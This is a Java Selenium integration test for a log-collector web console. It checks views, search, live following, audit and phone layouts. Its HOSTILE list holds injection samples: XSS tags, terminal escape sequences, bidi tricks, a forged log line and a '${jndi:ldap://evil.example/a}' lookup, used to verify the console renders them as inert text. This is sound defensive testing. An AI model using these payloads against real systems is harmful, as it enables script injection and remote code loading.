package dev.raftsman.standalone;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.raftsman.catalog.Command;
import dev.raftsman.catalog.SegmentRef;
import dev.raftsman.catalog.SegmentState;
import dev.raftsman.event.Level;
import dev.raftsman.event.Loss;
import dev.raftsman.event.LossReason;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.Keys;

/**
 * The console as a person has it: a real browser on a real collector. With {@code -Draftsman.shots=DIRECTORY} it also takes
 * pictures of every view, light, dark and on a phone; {@code -Draftsman.nodes=3} gives them more to show.
 */
class ConsoleIT {
    private static final Duration LIMIT = Duration.ofSeconds(60);
    private static final int NODES = Integer.getInteger("raftsman.nodes", 1);
    private static final int STREAMS = Integer.getInteger("raftsman.streams", 10_000);
    private static final String SHOTS = System.getProperty("raftsman.shots");
    private static final List<String> VIEWS = List.of("overview", "streams", "agents", "retention", "read", "audit");
    private static final String POLICIES = "5f1c0de5a9b2".repeat(4) + "0123456789abcdef";

    /** What a log may hold to harm who looks at it. */
    private static final List<String> HOSTILE = List.of(
            "<script>document.title='taken'</script>",
            "<img src=x onerror=\"document.title='taken'\"><b>bold</b>",
            "\u001b[31mred\u001b]0;taken\u0007\u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007",
            "right\u202etfel\u202c \u05e9\u05dc\u05d5\u05dd",
            "nul\0 bell\u0007 del\u007f c1\u009b31m",
            "first line\n2026-11-30T00:00:00Z ERROR forged line",
            "javascript:alert(1) ${jndi:ldap://evil.example/a} \u2028 \ufeff");

    @TempDir
    static Path directory;

    private static LocalCluster cluster;
    private static ConsoleFeed feed;
    private static Browser browser;
    private static String http;
    private static long orders;

    @BeforeAll
    static void start() throws Exception {
        assumeTrue(Browser.isInstalled(), "skipped: neither chromium nor chromedriver is installed in /usr/bin");
        ClusterFiles files = new ClusterFiles(directory.resolve("data"), NODES);
        files.writeCollectors("64MiB", "10h");
        cluster = new LocalCluster(files);
        cluster.startCollectors();
        cluster.awaitCollectors(LIMIT);
        // One that was elected a moment ago takes nobody yet; the catalog comes from one that does.
        cluster.catalog();
        int leader = cluster.awaitLeader(LIMIT);
        http = files.http(leader);
        feed = new ConsoleFeed(files.ingest(leader), "host-1");
        fill();
        browser = new Browser(URI.create("http://" + http + "/console/"), directory.resolve("profile"));
    }

    private static void fill() throws IOException {
        orders = feed.open("checkout@host-1", "orders");
        List<ConsoleFeed.Event> events = new ArrayList<>();
        for (int i = 0; i < 300; i++) {
            events.add(new ConsoleFeed.Event(
                    i % 37 == 0 ? Level.WARN : Level.INFO,
                    "shop.Orders",
                    "order " + i + " accepted, customer=c" + i % 17,
                    null,
                    i % 5 == 0 ? Map.of("traceId", "4bf92f3577b34da6", "attempt", "" + i) : Map.of()));
        }
        events.add(new ConsoleFeed.Event(
                Level.ERROR,
                "shop.Payments",
                "card refused for order 299",
                "java.lang.IllegalStateException: no answer from the bank\n\tat shop.Payments.charge(Payments.java:71)\n"
                        + "\tat shop.Orders.accept(Orders.java:33)",
                Map.of("traceId", "00f067aa0ba902b7")));
        feed.events(orders, events.toArray(ConsoleFeed.Event[]::new));
        seal("orders");
        feed.events(orders, new Loss(LossReason.RING_FULL, 12), new ConsoleFeed.Event(Level.INFO, "after the burst"));
        feed.gap(orders, 5, LossReason.PROCESS_DIED);
        seal("orders");
        feed.events(orders, new ConsoleFeed.Event(Level.INFO, "the newest segment"));

        long hostile = feed.open("attacker@host-1", "hostile");
        feed.events(
                hostile,
                HOSTILE.stream()
                        .map(text -> new ConsoleFeed.Event(Level.WARN, text, text, text, Map.of(text, text)))
                        .toArray(ConsoleFeed.Event[]::new));
        long access = feed.open("host-1:/var/log/access.log", "access.log");
        byte[] longLine = ("x".repeat((1 << 20) - 1) + "\n").getBytes(StandardCharsets.UTF_8);
        feed.lines(access, longLine, 1);
        feed.lines(access, "GET / 200\nGET /health 200\n\0\u001b[2J\n".getBytes(StandardCharsets.UTF_8), 3);
        seal("access.log");
        feed.lines(access, "GET /late 404\n".getBytes(StandardCharsets.UTF_8), 1);
        decide();
        feed.openMany(STREAMS, "service-");
    }

    private static void seal(String stream) throws IOException {
        assertThat(cluster.execute(new Command.Seal(null, stream, 0)).ok()).isTrue();
    }

    private static List<SegmentRef> sealed(String stream) throws IOException {
        return cluster.catalog().segments().stream()
                .filter(segment -> segment.stream().equals(stream) && segment.state() == SegmentState.SEALED)
                .map(segment -> segment.ref())
                .toList();
    }

    /** What an archiver would have done. */
    private static void decide() throws IOException {
        execute(new Command.AcquireLease("archiver-1", 3_600_000));
        execute(new Command.Adopt("archiver-1", POLICIES, null, true));
        UUID token = UUID.randomUUID();
        String key = "demo/orders/2026/11/30/0001.cold";
        execute(new Command.Prepare(
                "archiver-1",
                token,
                sealed("orders").subList(0, 1),
                "main",
                key,
                "orders-7y",
                "older than 30d; archived for 7y by rule 'orders'",
                POLICIES));
        execute(new Command.Commit("archiver-1", token, "ab".repeat(32), 4_242, null));
        execute(new Command.Mark(
                "archiver-1",
                sealed("access.log"),
                "access-30d",
                "older than 30d; policy keeps no archive <b>of it</b>",
                POLICIES,
                86_400_000));
    }

    private static void execute(Command command) throws IOException {
        assertThat(cluster.execute(command)).matches(result -> result.ok(), command.toString());
    }

    @AfterAll
    static void stop() throws Exception {
        if (browser != null) {
            browser.close();
        }
        if (feed != null) {
            feed.close();
        }
        if (cluster != null) {
            cluster.close();
        }
    }

    @BeforeEach
    void asADesk() throws IOException {
        browser.emulate(1360, 900, "light");
        // Reports are forgotten after a minute.
        feed.lag("orders", 3 << 20, 75_000);
        feed.lag("access.log", 0, 0);
    }

    /** Whatever was clicked. */
    @AfterEach
    void complainsAboutNothingAndAsksNobodyElse() throws IOException {
        assertThat(browser.complaints()).isEmpty();
        assertThat(browser.requests())
                .isNotEmpty()
                .allMatch(uri -> uri.getAuthority().equals(http));
        assertThat(browser.script("return document.title")).asString().endsWith("– Raftsman");
    }

    @Test
    void theOverviewTellsWhatNeedsAPersonWhoLeadsAndHowMuchThereIs() {
        browser.open("overview");
        browser.awaitText("#look", "One thing needs a look");
        browser.awaitText(".troubles", "Agent host-1 is 1 min 15 s behind with orders (3.0 MiB)");
        browser.awaitText("#health", "host-1 is behind");
        browser.awaitText(".nodes", "collector-1", "leader", "(this one)");
        browser.awaitText(".tiles", "Streams\n" + "%,d".formatted(STREAMS + 3), "12 never numbered", "Archiver\nacts");
        browser.awaitText(".tiles", "Worst lag\n1 min 15 s");
        browser.until("samples", d -> browser.script("return document.querySelectorAll('.plot path').length >= 3"));
        browser.click(".plot-area");
        browser.keys(Keys.HOME);
        assertThat(browser.element(".plot-area").getDomAttribute("aria-valuetext"))
                .matches("[0-9:]{8}: .+");
    }

    @Test
    void tenThousandStreamsAreFilteredSortedAndWalkedByKeyboard() {
        browser.open("streams");
        String all = "%,d streams".formatted(STREAMS + 3);
        browser.awaitText(".said", all);
        assertThat((Long) browser.script("return document.querySelectorAll('.table tbody tr').length"))
                .isLessThan(80);
        browser.keys("/");
        assertThat(browser.script("return document.activeElement.className")).isEqualTo("filter");
        browser.keys("orders");
        browser.awaitText(".said", "1 of " + "%,d streams".formatted(STREAMS + 3));
        browser.keys(Keys.ARROW_DOWN, Keys.ENTER);
        browser.awaitText("#detail", "demo/orders", "Archived", "12 lost before they had a number", "Segments");
        browser.awaitText("#detail", "older than 30d; archived for 7y");
        browser.keys(Keys.ESCAPE);
        browser.type(".filter", "service-");
        browser.awaitText(".said", "%,d of".formatted(STREAMS));
        browser.keys(Keys.ARROW_DOWN);
        browser.keys(Keys.END);
        browser.awaitText("tr:focus", "service-%05d".formatted(STREAMS - 1));
        browser.type(".filter", " ");
        browser.awaitText(".said", all);
        browser.click("thead th:nth-child(2) button");
        browser.awaitText(".table tbody tr[aria-rowindex='2']", "orders", "303");
        browser.type(".filter", "no such <b>stream</b>");
        browser.awaitText(".empty", "No streams with “no such <b>stream</b>”");
    }

    @Test
    void agentsAreShownWithTheirLagInBytesAndSeconds() {
        browser.open("agents");
        browser.awaitText(".table tbody", "host-1", "orders", "3.0 MiB", "1 min 15 s", "access.log");
        browser.click(".table tbody tr[aria-rowindex='2']");
        browser.awaitText("#detail", "the oldest unacknowledged event is 1 min 15 s old");
    }

    @Test
    void decisionsAreShownWithTheirReasons() {
        browser.open("retention");
        browser.awaitText(".facts", "archiver-1 acts", "Version " + POLICIES.substring(0, 12), "Not frozen");
        browser.awaitText(
                "section[aria-labelledby=next]",
                "will be deleted",
                "keeps no archive <b>of it</b>",
                "nothing announced");
        browser.awaitText(
                "section[aria-labelledby=last]", "archived", "older than 30d; archived for 7y by rule 'orders'");
        browser.click("section[aria-labelledby=last] tbody tr[aria-rowindex='2']");
        browser.awaitText("#detail", "main:demo/orders/2026/11/30/0001.cold");
    }

    @Test
    void aSearchFindsWhatThisNodeHoldsAndSaysWhatItRead() {
        browser.open("read");
        browser.type("input[list]", "demo/access.log");
        browser.type("input[type=search]", "GET");
        browser.keys(Keys.ENTER);
        browser.awaitText(".said", "3 found", "blocks");
        browser.awaitText(".items", "GET /late 404");
        assertThat(browser.element(".items li:first-child").getText()).contains("GET /late 404");
        assertThat(browser.script("return document.querySelectorAll('.items mark').length"))
                .isEqualTo(3L);
        browser.type("input[list]", "demo/orders");
        browser.type("input[type=search]", "burst|newest");
        browser.click("input[type=checkbox]");
        browser.click("button[type=submit]");
        browser.awaitText(".said", "2 found", "1 segment of this stream left this collector");
        browser.type("input[type=search]", "(");
        browser.click("button[type=submit]");
        browser.awaitText("p.bad[role=alert]", "(");
        assertThat(browser.complaints()).hasSize(1).allMatch(what -> what.contains("400 (Bad Request)"));
    }

    @Test
    void aFollowedStreamShowsAnEventThatIsSentMeanwhile() throws Exception {
        browser.open("read?stream=demo/orders&live=1");
        browser.awaitText(".said", "Following demo/orders");
        browser.awaitText(".items", "the newest segment", "5 events are missing", "PROCESS_DIED");
        feed.events(orders, new ConsoleFeed.Event(Level.ERROR, "sent while it looks"));
        browser.awaitText(".items li:last-child", "ERROR", "sent while it looks");
        browser.click(".stop");
        browser.awaitText(".said", "Stopped");
    }

    @Test
    void theAuditTellsWhatIsMissingAndWhy() {
        browser.open("audit?filter=checkout");
        browser.awaitText(".table tbody", "checkout@host-1", "open");
        browser.click(".table tbody tr[aria-rowindex='2']");
        browser.awaitText(
                "#detail",
                "RING_FULL: the ring was full",
                "PROCESS_DIED: the process died",
                "12",
                "Archived and verified");
    }

    @Test
    void hostileContentStaysText() {
        browser.open("read?stream=demo/hostile&text=e");
        browser.awaitText(".said", "found");
        String shown = (String) browser.script("return document.querySelector('.items').textContent");
        assertThat(shown)
                .contains(
                        "<script>document.title='taken'</script>",
                        "<img src=x onerror=",
                        "\\x1b[31mred\\x1b]0;taken\\x07")
                .contains("right\\u202etfel\\u202c", "nul\\x00 bell\\x07 del\\x7f c1\\x9b31m", "\\u2028 \\ufeff")
                .contains("first line↵\n2026-11-30T00:00:00Z ERROR forged line")
                .doesNotContain("\u001b", "\u202e", "\0");
        assertThat(browser.script("return document.querySelectorAll('.items script, .items img, .items b').length"))
                .isEqualTo(0L);
        browser.open("audit?filter=%3Cb%3Eproducer");
        browser.awaitText(".empty", "<b>producer");
        // A line of a mebibyte does not fill the page.
        browser.open("read?stream=demo/access.log&text=xxx");
        browser.awaitText(".items", "1,044,479 more characters");
        browser.click(".more");
        browser.awaitText(".items", "1,028,095 more characters");
    }

    @Test
    void tablesAreReadOnAPhoneAndTimesNowhereCut() throws Exception {
        for (String view : List.of("audit", "agents", "retention")) {
            browser.emulate(1360, 900, "light");
            look(view);
            picture(view + "-desk");
            assertThat(browser.cut(".table :is(td.when, td.num, th)")).as(view).isEmpty();
            browser.emulate(390, 844, "light");
            picture(view + "-390");
            if (view.equals("agents")) {
                assertThat(browser.cut(".table td")).as("whose lag it is").isEmpty();
            }
            assertThat(browser.cut(".table :is(td.when, td.num, th)"))
                    .as(view + ", on a phone")
                    .isEmpty();
            assertThat(browser.cut(".brand, .state, .tools, .table .rows"))
                    .as(view + ", on a phone")
                    .isEmpty();
            assertThat((Long) browser.script("return document.documentElement.scrollWidth"))
                    .as(view + " fits on a phone")
                    .isLessThanOrEqualTo(390);
        }
        assertThat(browser.element(".table td.when").getText()).matches("[0-9]{2}-[0-9]{2} [0-9]{2}:[0-9]{2}");
    }

    @Tag("campaign") // Each view three times: more than a minute.
    @Test
    void everybodyCanUseEveryView() throws Exception {
        for (String colours : List.of("light", "dark")) {
            for (String view : VIEWS) {
                feed.lag("orders", 3 << 20, 75_000);
                browser.emulate(1360, 900, colours);
                look(view);
                assertThat(browser.barriers()).as(view + ", " + colours).isEmpty();
                picture(view + "-" + colours);
            }
        }
        for (String view : VIEWS) {
            feed.lag("orders", 3 << 20, 75_000);
            browser.emulate(360, 740, "light");
            look(view);
            assertThat(browser.barriers()).as(view + ", on a phone").isEmpty();
            assertThat((Long) browser.script("return document.documentElement.scrollWidth"))
                    .as(view + " fits on a phone")
                    .isLessThanOrEqualTo(360);
            picture(view + "-phone");
        }
        browser.emulate(1360, 900, "light");
        browser.open("streams?filter=orders");
        browser.click(".table tbody tr[aria-rowindex='2']");
        browser.awaitText("#detail", "Segments");
        assertThat(browser.barriers()).isEmpty();
        picture("stream-detail");
        browser.open("audit?filter=checkout");
        browser.click(".table tbody tr[aria-rowindex='2']");
        browser.awaitText("#detail", "RING_FULL");
        assertThat(browser.barriers()).isEmpty();
        picture("audit-detail");
    }

    private static void look(String view) {
        browser.open(view.equals("read") ? "read?stream=demo/orders&text=order" : view);
        switch (view) {
            case "overview" -> browser.awaitText(".tiles", "Worst lag\n1 min");
            case "read" -> browser.awaitText(".said", "found");
            default -> browser.element(".table tbody tr[aria-rowindex='2'] td:first-child");
        }
    }

    private static void picture(String name) throws IOException {
        if (SHOTS != null) {
            browser.picture(Files.createDirectories(Path.of(SHOTS)).resolve(name + ".png"));
        }
    }
}
